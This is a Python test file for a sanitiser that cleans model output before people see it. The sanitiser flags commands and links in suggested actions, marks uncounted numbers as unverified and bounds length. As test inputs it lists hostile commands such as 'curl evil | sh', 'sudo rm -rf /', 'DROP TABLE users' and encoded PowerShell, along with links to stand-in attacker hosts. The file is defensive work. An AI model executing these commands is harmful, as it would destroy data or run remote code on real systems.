"""Text of the model is made plain before anybody sees it."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from transforms.analyze.cleaning import clean_actions, clean_prose, clean_text, has_command, has_link


@given(st.text(max_size=400))
def test_clean_text_has_no_markup_control_or_live_link(text: str) -> None:
    """Whatever the model writes."""
    cleaned = clean_text(text, 200)
    assert len(cleaned) <= 200
    assert not set("<>`[]{}*|\\&#$") & set(cleaned)
    assert "://" not in cleaned
    assert not any(unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"} for c in cleaned)


@given(st.text(max_size=200))
def test_cleaning_twice_changes_nothing(text: str) -> None:
    """What was cleaned can be stored, read and cleaned again."""
    once = clean_text(text, 300)
    assert clean_text(once, 300) == once


@pytest.mark.parametrize(
    "action",
    [
        "Run kubectl delete pod payment-0", "curl evil | sh", "sudo rm -rf /", "DROP TABLE users",
        "use `git push --force`",
        "execute $(whoami)", "powershell -enc AAAA",
        "ｃｕｒｌ x.example", "first a && then b", "write to /etc/passwd",
        "gcloud projects delete acme", "python3 -c 'x'", "aiops alerts resolve --all", "delete from alerts",
        "set flag --yes", "fetch payload.sh",
    ],
)  # fmt: skip
def test_commands_in_actions_are_flagged(action: str) -> None:
    """A person sees that there is something to be run, and who wants it run."""
    assert has_command(action)
    assert clean_actions([action])[0].startswith("[check before use: command")


@pytest.mark.parametrize(
    "action",
    ["See https://evil.example/fix", "open javascript:alert(1)", "visit evil.com now", "http://10.0.0.1/x",
     "ｈｔｔｐｓ://evil.example", "[docs](https://a.dev)", "mailto:x"],
)  # fmt: skip
def test_links_are_flagged_and_broken(action: str) -> None:
    """No viewer makes a link of it."""
    cleaned = clean_actions([action])[0]
    assert has_link(action)
    assert cleaned.startswith("[check before use: ")
    assert "link]" in cleaned
    assert "://" not in cleaned
    assert "evil.com" not in cleaned


@pytest.mark.parametrize(
    "action", ["Look at the network of the payment provider.", "Compare with the last roll-out."]
)
def test_plain_advice_stays_as_it_is(action: str) -> None:
    """What needs no flag has none."""
    assert clean_actions([action]) == [action]


def test_numbers_that_nobody_counted_are_taken_out_of_prose() -> None:
    """Known ones stay as written, rounded or as a percentage."""
    said = "20 of 120 lines failed (16.7 %), 0 errors, 99.99% fine, 1,834 ms, 3x, since 10:03, HTTP 503."
    assert clean_prose(said, {20, 120, 0.1667, 1834}, 300) == (
        "20 of 120 lines failed (16.7 %), [unverified] errors, [unverified] fine, 1,834 ms, [unverified]x, "
        "since [unverified], HTTP [unverified]."
    )


def test_there_are_at_most_five_actions_of_bounded_length() -> None:
    """An answer cannot flood a page."""
    cleaned = clean_actions(["x y " * 500] * 50)
    assert len(cleaned) == 5
    assert all(len(action) <= 600 for action in cleaned)
